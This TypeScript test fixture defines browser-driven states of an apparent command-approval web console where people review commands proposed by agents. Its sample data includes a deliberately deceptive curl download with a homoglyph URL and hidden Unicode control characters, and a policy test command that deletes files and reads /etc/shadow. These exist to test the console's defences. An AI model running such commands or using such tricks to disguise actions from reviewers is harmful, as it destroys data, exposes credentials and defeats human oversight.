/** Everything a reviewer may come to see, each as a way to get there with a browser: for axe-core, and for eyes. */
import type { Page } from 'playwright-core';
import type { Hold } from '../../src/approval/hold.ts';
import { SallyportError } from '../../src/errors.ts';
import type { WebOptions } from '../../src/web/ports.ts';
import type { LiveWeb } from './chromium.ts';
import { holdOf } from './desk.ts';
import { agents, type people, targets } from './web.ts';

export interface Stage {
  readonly web: LiveWeb;
  readonly page: Page;
}

export interface WebState {
  readonly name: string;
  /** Undefined: nobody is signed in. */
  readonly who?: keyof typeof people;
  readonly options?: Partial<WebOptions>;
  go(stage: Stage): Promise<void>;
}

type Change = Parameters<typeof holdOf>[1];
const dayMs = 86_400_000;
const put = ({ web }: Stage, change: Change = {}): Hold => web.desk.put(holdOf(web.nowMs(), change));
const linkTo = async ({ web }: Stage, hold: Hold, who = 'maya') =>
  `${web.url}/review#${await web.links.issue(hold, who)}`;

async function openMail(stage: Stage, change: Change = {}, who = 'maya'): Promise<Hold> {
  const hold = put(stage, change);
  await stage.page.goto(await linkTo(stage, hold, who));
  await stage.page.getByRole('button', { name: 'Approve', exact: true }).waitFor();
  return hold;
}

const press = ({ page }: Stage, name: string) => page.getByRole('button', { name, exact: true }).click();
const seen = ({ page }: Stage, heading: string) => page.getByRole('heading', { name: heading }).waitFor();
const mailed = (name: string, change?: Change): WebState => ({
  name,
  go: async (stage) => void (await openMail(stage, change)),
});
const at = (name: string, path: string, who: keyof typeof people = 'adm', options: Partial<WebOptions> = {}) => ({
  name,
  who,
  options,
  go: async ({ web, page }: Stage) => void (await page.goto(`${web.url}${path}`)),
});
/** A hold on the console, for somebody who is signed in. */
const onConsole = (name: string, change: Change, who: keyof typeof people = 'maya'): WebState => ({
  name,
  who,
  go: async (stage) => void (await stage.page.goto(`${stage.web.url}/holds/${put(stage, change).id}`)),
});

const script = [
  '#!/usr/bin/env python3',
  'import shutil, subprocess',
  'for name in ("cache", "tmp"):',
  '    shutil.rmtree(f"/srv/{name}", ignore_errors=True)',
  'subprocess.run(["systemctl", "restart", "app"], check=True)',
  '',
].join('\n');
const longCommand = `psql -h db-1 -c "INSERT INTO archive (id, note) VALUES ${Array.from(
  { length: 480 },
  (_, at) => `(${at}, 'row number ${at} of many')`,
).join(', ')}"`;
const deceitful =
  'curl -fsS https://updates.example.com/\u0430pp.tgz -o /tmp/app.tgz && echo "ok \u202e gpj.exe" # \u200bdone';
const general = { words: ['rm', '-f', '/srv/app/7'], tool: 'rm', subcommand: [], effects: ['delete'] } as const;
const scopes = { kinds: ['once', 'session', 'time', 'pattern'], maxMs: 3_600_000, general } as const;
const scoped = { action: { command: 'rm -f /srv/app/7' }, parts: [], effects: ['Deletes /srv/app/7'], scopes };
const decidedBy = (reviewer: string, verdict: 'approve' | 'reject', reason: string) =>
  ({ reviewer, verdict, reason, atMs: Date.now() - 40_000, channel: 'web', groups: ['sre'] }) as const;
const told = [
  { channel: 'mail', reviewer: 'maya', state: 'delivered', attempts: 1, atMs: Date.now() - 60_000 },
  {
    channel: 'mail',
    reviewer: 'tom',
    state: 'retrying',
    attempts: 3,
    atMs: Date.now(),
    reason: 'the mail server is busy',
  },
  { channel: 'ntfy', name: 'ops', state: 'failed', attempts: 8, atMs: Date.now(), reason: 'timeout' },
  { channel: 'slack', name: 'sre-room', state: 'queued', attempts: 0, atMs: Date.now() },
] as const;

const longName = `nightly-maintenance-and-cleanup-agent-of-the-platform-team-0042`;
const manyAgents = [
  ...agents,
  {
    name: longName,
    owner: 'tom',
    keys: agents[0]?.keys ?? [],
    expiresAtMs: Date.now() + 3 * dayMs,
    labels: { team: 'platform-engineering-and-reliability', environment: 'production' },
    targets: { 'database-primary-eu-central-1.internal.example.com': ['maintenance_operator'], 'web-1': ['deploy'] },
    isDisabled: false,
  },
];
const manyTargets = [
  ...targets,
  ...targets.map((target) => ({
    ...target,
    name: 'database-primary-eu-central-1.internal.example.com',
    host: 'database-primary-eu-central-1.internal.example.com',
  })),
];
const failing = (code: 'STORE_UNREACHABLE' | 'INTERNAL'): Partial<WebOptions> => ({
  health: () => Promise.reject(new SallyportError(code, 'on purpose')),
});
const liveScope = {
  id: 's-4k2m9x7p',
  version: 1,
  kind: 'pattern',
  agent: longName,
  keyFingerprint: 'SHA256:x',
  target: 'web-1',
  targetHostKey: 'SHA256:y',
  account: 'deploy',
  digest: '',
  command: 'rm -f /srv/app/7',
  pattern: { text: 'rm -f /srv/app/*', general, policyHash: '', environment: '' },
  createdBy: ['maya', 'tom'],
  hold: 'h-7k2m9x4q8r1t',
  createdAtMs: Date.now() - 60_000,
  expiresAtMs: Date.now() + 840_000,
  uses: 4,
} as const;
const scopeDesk: NonNullable<WebOptions['scopes']> = {
  live: () =>
    Promise.resolve([liveScope, { ...liveScope, id: 's-9z8y7x6w', kind: 'time', agent: 'deploy-bot', uses: 1 }]),
  revoke: () => Promise.resolve(true),
};
const live: NonNullable<WebOptions['live']> = {
  list: () =>
    Promise.resolve(
      [longName, 'deploy-bot'].map((agent, at) => ({
        id: `s-${at}`,
        agent,
        username: 'maintenance_operator@database-primary-eu-central-1.internal.example.com',
        remote: '2001:db8:85a3:8d3:1319:8a2e:370:7348',
        openedAtMs: Date.now() - 300_000,
        isBusy: at === 0,
        node: `gate-${at + 1}`,
        isHere: at === 1,
      })),
    ),
  end: () => Promise.resolve(true),
};
const figures = { approvals: 24, rejections: 0, medianMs: 3_000, approvesEverything: true };

const review: readonly WebState[] = [
  { name: 'review-code', go: async ({ web, page }) => void (await page.goto(`${web.url}/review`)) },
  mailed('review-plain'),
  mailed('review-stdin', {
    action: { kind: 'stdin', command: 'python3 -', stdin: script, stdinUse: 'reviewed' },
    parts: [],
    effects: [],
    reason: 'A program on stdin runs whatever it says.',
  }),
  mailed('review-streamed', { action: { command: 'tee /srv/app/config.yaml', stdinUse: 'streamed' }, parts: [] }),
  mailed('review-16k', { action: { command: longCommand, canonical: longCommand.replaceAll('"', "'") }, parts: [] }),
  mailed('review-deceitful', {
    action: { command: deceitful, canonical: "'curl' '-fsS' 'https://updates.example.com/\u0430pp.tgz' …" },
    parts: [],
    deliveries: told,
  }),
  mailed('review-quorum-half', { quorum: 2, decisions: [decidedBy('tom', 'approve', 'Checked with the owner.')] }),
  mailed('review-all-of', {
    quorum: 2,
    groups: ['sre', 'dba'],
    allOf: [
      { groups: ['sre'], quorum: 1 },
      { groups: ['dba', 'security'], quorum: 1 },
    ],
    reasonRequired: true,
    minReasonLength: 20,
  }),
  mailed('review-scopes', scoped),
  mailed('review-respelling', {
    respelling: { hold: 'h-0', command: 'rm -rf /srv/x', reviewer: 'tom', atMs: Date.now() - 60_000, isSame: false },
    action: { command: 'find /srv/x -delete' },
    parts: [],
  }),
  mailed('review-agent-left', { isAgentWaiting: false, before: [], environment: {} } as Change),
  {
    name: 'review-wrong-answer',
    go: async (stage) => {
      await openMail(stage);
      await press(stage, 'Approve');
      await stage.page.getByText('That is not the answer').waitFor();
    },
  },
  {
    name: 'review-scope-unclear',
    go: async (stage) => {
      await openMail(stage, scoped);
      await stage.page.getByLabel(/by a pattern/).check();
      await stage.page.getByLabel('Pattern', { exact: true }).fill('rm *');
      await press(stage, 'Approve');
      await stage.page.getByRole('alert').first().waitFor();
    },
  },
  {
    name: 'review-reason-missing',
    go: async (stage) => {
      await openMail(stage, { reasonRequired: true });
      await stage.page.evaluate('for (const field of document.querySelectorAll("textarea")) field.required = false');
      await press(stage, 'Approve');
      await stage.page.getByText('Say why').waitFor();
    },
  },
  {
    name: 'review-expired-while-looking',
    go: async (stage) => {
      await openMail(stage, { expiresAtMs: stage.web.nowMs() + 900 });
      await stage.page.getByText('Time is up').waitFor();
    },
  },
  {
    name: 'review-too-late',
    go: async (stage) => {
      const hold = put(stage, { state: 'released' });
      await stage.page.goto(await linkTo(stage, hold));
      await seen(stage, 'Too late');
    },
  },
  {
    name: 'review-used',
    go: async (stage) => {
      const hold = await openMail(stage, { quorum: 2, decisions: [decidedBy('tom', 'approve', '')] });
      const link = await linkTo(stage, hold);
      await stage.web.links.use(link.slice(link.indexOf('#') + 1));
      await stage.page.goto('about:blank');
      await stage.page.goto(link);
      await seen(stage, 'This link has been used');
    },
  },
  {
    name: 'review-foreign',
    who: 'tom',
    go: async (stage) => {
      await stage.page.goto(await linkTo(stage, put(stage)));
      await seen(stage, 'This link is not yours');
    },
  },
  {
    name: 'review-unknown',
    go: async (stage) => {
      const other = await linkTo(stage, holdOf(stage.web.nowMs()));
      await stage.page.goto(other);
      await seen(stage, 'This link is not known here');
    },
  },
  {
    name: 'review-cut',
    go: async (stage) => {
      await stage.page.goto(`${stage.web.url}/review#abc`);
      await seen(stage, 'This link is not complete');
    },
  },
  {
    name: 'review-rejected',
    go: async (stage) => {
      await openMail(stage);
      await press(stage, 'Reject');
      await seen(stage, 'Rejected');
    },
  },
];

const signIn: readonly WebState[] = [
  { name: 'sign-in', go: async ({ web, page }) => void (await page.goto(`${web.url}/sign-in`)) },
  {
    name: 'sign-in-token',
    go: async ({ web, page }) => {
      await page.goto(`${web.url}/sign-in`);
      await page.getByText('Sign in with an API token instead').click();
    },
  },
  {
    name: 'sign-in-code',
    go: async (stage) => {
      await askForCode(stage);
      await seen(stage, 'Look into your mail');
    },
  },
  {
    name: 'sign-in-wrong-code',
    go: async (stage) => {
      await askForCode(stage);
      await stage.page.getByLabel('Code from the mail').fill('AAAA-BBBB');
      await press(stage, 'Sign in');
      await stage.page.getByText('That code is wrong').waitFor();
    },
  },
  {
    name: 'sign-in-other-browser',
    go: async (stage) => {
      await askForCode(stage);
      await stage.page.context().clearCookies();
      await stage.page.goto(stage.web.mails[0]?.link ?? '');
      await stage.page.getByText('only in the browser that asked').waitFor();
    },
  },
];

async function askForCode(stage: Stage): Promise<void> {
  await stage.page.goto(`${stage.web.url}/sign-in`);
  await stage.page.getByLabel('Your mail address').fill('maya@example.com');
  await press(stage, 'Send me a code');
  await seen(stage, 'Look into your mail');
}

const waiting = (name: string, count: number): WebState => ({
  name,
  who: 'maya',
  go: async (stage) => {
    for (let at = 0; at < count; at++)
      put(stage, {
        createdAtMs: stage.web.nowMs() - at * 1_000,
        ...(at % 5 === 4 ? { action: { command: longCommand }, parts: [] } : {}),
        ...(at % 7 === 3 ? { action: { agent: longName, target: manyTargets[1]?.name ?? '' } } : {}),
      });
    await stage.page.goto(`${stage.web.url}/waiting`);
  },
});

const consolePages: readonly WebState[] = [
  waiting('waiting-none', 0),
  waiting('waiting-one', 1),
  waiting('waiting-fifty', 50),
  onConsole('hold-lapsed-vote', {
    quorum: 2,
    decisions: [
      { ...decidedBy('tom', 'approve', 'Checked with the owner.'), lapsed: 'reviewer-left' },
      { ...decidedBy('ines', 'approve', ''), lapsed: 'own-agent' },
    ],
  }),
  onConsole('hold-pending', { deliveries: told, quorum: 2, escalation: { afterMs: 600_000, groups: ['managers'] } }),
  onConsole('hold-owner', {}, 'olga'),
  onConsole('hold-auditor', {}, 'aud'),
  onConsole('hold-other-group', {}, 'dan'),
  onConsole('hold-rejected', {
    state: 'rejected',
    decidedAtMs: Date.now(),
    decisions: [decidedBy('tom', 'reject', 'Not during the sale; ask again on Monday.')],
    deliveries: told,
  }),
  onConsole('hold-ran', { state: 'released', decisions: [decidedBy('tom', 'approve', '')], deliveries: told }),
  onConsole('hold-withdrawn', { state: 'withdrawn', deliveries: [] }),
  onConsole('hold-glass', {
    state: 'released',
    quorum: 2,
    decisions: [{ ...decidedBy('maya', 'approve', 'Production is down.'), breakGlass: true }],
  }),
  {
    name: 'hold-glass-form',
    who: 'maya',
    go: async (stage) => {
      await stage.page.goto(`${stage.web.url}/holds/${put(stage, { quorum: 2 }).id}`);
      await stage.page.getByText('Emergency: break the glass').click();
    },
  },
  {
    name: 'batch',
    who: 'maya',
    go: async (stage) => {
      const holds = [{}, { action: { command: deceitful } }, { action: { command: longCommand }, parts: [] }];
      const ids = holds.map((change) => `id=${put(stage, change).id}`).join('&');
      await stage.page.goto(`${stage.web.url}/batch?${ids}`);
    },
  },
  {
    name: 'batch-result',
    who: 'maya',
    go: async (stage) => {
      const ids = [{}, { action: { agent: longName } }].map((change) => `id=${put(stage, change).id}`).join('&');
      await stage.page.goto(`${stage.web.url}/batch?${ids}`);
      await press(stage, 'Approve all 2');
      await seen(stage, 'What became of them');
    },
  },
  at('scopes', '/scopes', 'maya', { scopes: scopeDesk }),
  at('scopes-none', '/scopes', 'maya', { scopes: { ...scopeDesk, live: () => Promise.resolve([]) } }),
  {
    ...at('scopes-revoked', '/scopes', 'maya', { scopes: scopeDesk }),
    go: async (stage) => {
      await stage.page.goto(`${stage.web.url}/scopes`);
      await stage.page
        .getByRole('button', { name: /Revoke/ })
        .first()
        .click();
      await seen(stage, 'is revoked');
    },
  },
  at('live', '/live', 'adm', { live }),
  at('live-none', '/live', 'adm', { live: { ...live, list: () => Promise.resolve([]) } }),
  at('sessions', '/sessions', 'aud'),
  at('session', '/sessions/s-4f2a', 'aud'),
  at('session-unknown', '/sessions/s-none', 'aud'),
  at('sessions-none', '/sessions', 'aud', {
    sessions: {
      list: () => Promise.resolve({ sessions: [], next: undefined }),
      get: () => Promise.resolve(undefined),
      recording: () => Promise.resolve(undefined),
    },
  }),
  {
    ...at('replay', '', 'aud'),
    go: async ({ web, page }) => {
      await page.goto(`${web.url}/sessions/s-4f2a`);
      await page.getByRole('link', { name: 'Replay' }).click();
      await page.locator('.ap-player').waitFor();
    },
  },
  at('agents', '/agents'),
  at('agents-none', '/agents', 'adm', { agents: () => [] }),
  at('agents-nothing-fits', '/agents?q=nobody'),
  at('targets', '/targets'),
  at('targets-none', '/targets', 'adm', { targets: () => [] }),
  at('reviewers', '/reviewers', 'aud', {
    reviewerFigures: () => figures,
    onCall: () => [
      { schedule: 'sre', person: 'tom', until: '2026-03-09 09:00', timezone: 'Europe/Berlin', next: 'maya' },
    ],
  }),
  at('policy', '/policy'),
  {
    ...at('policy-explained', '/policy'),
    go: async (stage) => {
      await stage.page.goto(`${stage.web.url}/policy`);
      await stage.page.getByLabel('Command', { exact: true }).fill('rm -rf /srv/app && cat /etc/shadow | tee $HOME/x');
      await press(stage, 'Explain');
      await seen(stage, 'It is denied');
    },
  },
  {
    ...at('policy-refused', '/policy', 'adm', {
      checkPolicy: () =>
        Promise.resolve({
          problems: [
            'line 3, column 5: unknown key `alow`; did you mean `allow`?',
            'line 9: this rule can never match',
          ],
          hash: '',
          rules: 0,
          examples: 0,
        }),
    }),
    go: async (stage) => {
      await stage.page.goto(`${stage.web.url}/policy`);
      const box = stage.page.getByLabel(/proposed|text/i).last();
      if (!(await box.isVisible())) await stage.page.locator('summary').last().click();
      await box.fill('version: 1\nrules: []\n');
      await stage.page.getByRole('button', { name: /Check/ }).click();
      await stage.page.getByText('did you mean').waitFor();
    },
  },
  at('health', '/health'),
  at('me', '/me', 'maya'),
  at('not-your-role', '/batch?id=h-1', 'aud'),
  at('no-such-hold', '/holds/h-none', 'maya'),
  at('nothing-here', '/nothing/here', 'maya'),
  at('our-failure', '/health', 'adm', failing('INTERNAL')),
  at('store-away', '/health', 'adm', failing('STORE_UNREACHABLE')),
  {
    name: 'stale-form',
    who: 'maya',
    go: async (stage) => {
      await stage.page.goto(`${stage.web.url}/holds/${put(stage).id}`);
      await stage.page.evaluate('document.querySelector("[name=nonce]").value = "x"');
      await press(stage, 'Approve');
      await seen(stage, 'Nothing was done');
    },
  },
  {
    name: 'too-many-tries',
    go: async ({ web, page }) => {
      for (let n = 0; n < 31; n++)
        await page.request.post(`${web.url}/review`, { form: { code: 'x' }, headers: { origin: web.url } });
      await page.goto(`${web.url}/review#abc`);
      await page.getByRole('heading', { name: 'Too many tries' }).waitFor();
    },
  },
];

export const webStates: readonly WebState[] = [...signIn, ...review, ...consolePages];
/** What every state stands on unless it says otherwise. */
export const fullOffice = { agents: () => manyAgents, targets: () => manyTargets, live, scopes: scopeDesk };
